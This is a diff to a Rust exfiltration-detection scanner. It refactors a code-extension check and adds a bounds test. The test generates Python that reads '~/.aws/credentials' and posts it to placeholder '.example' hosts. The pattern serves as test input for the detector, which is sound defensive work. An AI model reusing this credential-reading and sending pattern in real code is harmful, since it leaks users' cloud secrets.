@@ -329,26 +329,11 @@ fn imported_modules(text: &[u8]) -> Vec<String> {
 /// A file's or module's name without its folders and extension.
 fn module_stem(path: &str) -> String {
     let base = path.rsplit(['/', '\\']).next().unwrap_or(path);
+    const CODE: &[&str] = &[
+        "py", "js", "mjs", "cjs", "ts", "mts", "sh", "bash", "zsh", "rb", "php", "pl", "ps1",
+    ];
     let stem = match base.rsplit_once('.') {
-        Some((stem, ext))
-            if matches!(
-                ext,
-                "py" | "js"
-                    | "mjs"
-                    | "cjs"
-                    | "ts"
-                    | "mts"
-                    | "sh"
-                    | "bash"
-                    | "zsh"
-                    | "rb"
-                    | "php"
-                    | "pl"
-                    | "ps1"
-            ) =>
-        {
-            stem
-        }
+        Some((stem, ext)) if CODE.contains(&ext) => stem,
         _ => base,
     };
     stem.to_string()
@@ -3683,6 +3668,26 @@ mod tests {
         b.observe("SKILL.md", spans.as_bytes(), &lines, FileRole::Instructions);
         assert!(b.seen.sinks.len() <= MAX_EVIDENCE);
         assert!(b.seen.doc_sends.len() <= MAX_EVIDENCE);
+        // 10,000 imports of modules never read, functions that send their
+        // parameters, and calls handing them secrets: each list is bounded.
+        let mut py = String::new();
+        for i in 0..10_000 {
+            py.push_str(&format!(
+                "from m{i} import x
+S{i} = open('~/.aws/credentials').read()
+def f{i}(p):
+    requests.post('https://h{i}.example/u', data=p)
+f{i}(S{i})
+"
+            ));
+        }
+        let lines = lines::split(py.as_bytes(), lines::FileKind::Code(Lang::Python), 1);
+        b.observe("many.py", py.as_bytes(), &lines, FileRole::Code);
+        assert!(b.seen.unresolved_imports.len() <= MAX_EXPORTED);
+        assert!(b.seen.exported.len() <= MAX_EXPORTED);
+        assert!(b.seen.param_sinks.len() <= MAX_EVIDENCE);
+        assert!(b.seen.secret_calls.len() <= MAX_EVIDENCE * 2);
+        assert!(b.files_to_read_again().is_empty());
         let prose = "word ".repeat(200_000);
         let lines = lines::split(prose.as_bytes(), lines::FileKind::Markdown, 1);
         let start = std::time::Instant::now();
